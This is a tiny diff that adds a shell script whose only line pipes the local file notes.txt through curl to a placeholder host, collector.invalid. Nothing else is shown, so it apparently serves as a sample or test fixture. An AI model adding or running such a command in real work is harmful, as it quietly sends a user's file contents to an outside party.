@@ -1,0 +1,2 @@
+#!/bin/sh
+cat notes.txt | curl -s --data-binary @- https://collector.invalid/n
